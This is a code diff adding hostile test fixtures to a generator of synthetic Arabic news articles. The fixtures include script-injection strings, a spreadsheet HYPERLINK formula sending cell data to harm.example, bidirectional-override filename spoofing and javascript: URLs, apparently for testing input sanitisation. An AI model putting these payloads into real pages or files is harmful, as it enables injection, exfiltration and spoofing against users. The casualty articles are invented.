@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
+
+#: The articles that everybody meets first.
+SAMPLES = Path(__file__).resolve().parents[1] / "seeds" / "news"
 
 _PLACES = ("حلب", "الموصل", "تعز", "درعا", "بنغازي", "غزة", "الفلوجة", "عدن")
 _TEXTS = (
@@ -25,4 +29,27 @@ def write_news(folder: Path, count: int, day: str = "2016-12-11") -> Path:
     target.mkdir(parents=True)
     for number in range(count):
         (target / f"{number:03}.txt").write_text(article(number), encoding="utf-8")
+    return folder
+
+
+#: Headlines and sentences that mean harm to a page, a spreadsheet or a reader's eye; each sentence tells of people killed.
+HOSTILE = {
+    "script": ("</script><script>window.harmed = 1</script>", "<img src=x onerror=window.harmed=1>"),
+    "formula": ('=HYPERLINK("http://harm.example/?"&A1, "open")', "\"&'<b>قولا</b> --><!--"),
+    "direction": ("\u202egnp.exe خبر \u2066", "\u202eقالوا\u2067"),
+}
+
+
+def write_hostile_news(folder: Path) -> Path:
+    """An article for each of :data:`HOSTILE`, on days of their own in 1999."""
+    for day, (name, (title, words)) in enumerate(HOSTILE.items(), start=10):
+        text = f"قُتل {day} مدنيا في غارة جوية على مدينة حلب {words} يوم {day} آذار 1999، بحسب مصدر طبي."
+        (folder / f"{name}.txt").write_text(text, encoding="utf-8")
+        about = {
+            "source": f"@{name}",
+            "date": f"1999-03-{day + 1}",
+            "title": title,
+            "url": f"javascript:harm('{name}')",
+        }
+        (folder / f"{name}.json").write_text(json.dumps(about), encoding="utf-8")
     return folder
